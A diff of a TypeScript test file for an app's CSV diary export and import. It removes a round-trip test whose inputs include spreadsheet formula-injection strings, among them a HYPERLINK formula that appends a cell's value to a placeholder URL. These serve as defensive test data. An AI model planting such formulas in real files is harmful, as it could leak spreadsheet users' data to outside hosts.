@@ -7,27 +7,6 @@ import { imported } from './samples.rows.ts';
 const entriesOf = async (csv: string) =>
   (await imported(csv)).entries.map(({ day, content }) => [day, content]);
 
-describe("the app's own CSV", () => {
-  it.each([
-    'Der Bus war pünktlich.',
-    'eins, zwei; drei\t"vier"',
-    'eins\nzwei\r\n\r\ndrei\rvier',
-    '=1+1',
-    "'s war schön",
-    "''=1",
-    '- Kaffee\n- Sonne',
-    '＝1 🌻 שלום',
-    'Schön;=HYPERLINK("http://example.org"&A1)',
-    'eins,\t"=2"\n\n- drei',
-  ])('restores %j with its day and its instant', async (content) => {
-    const { text } = csvFile(exported({ '2026-11-21': 'x', '2026-11-20': content }), '2026-11-22');
-    expect(await imported(text)).toMatchObject({
-      apps: ['Aufwind'],
-      entries: [{ day: '2026-11-20', content, createdAt: '2026-11-20T18:30:00.000Z' }, { day: '2026-11-21' }],
-    });
-  });
-});
-
 it("the app's own CSV has no instants once a spreadsheet has rewritten its days", async () => {
   const { text } = csvFile(exported({ '2025-03-05': 'Tee' }), '2026-11-22');
   const rewritten = text.replace(/(\d{4})-(\d\d)-(\d\d)(?:T(\d\d:\d\d)[^;,]*)?/gu, '$3.$2.$1 $4');
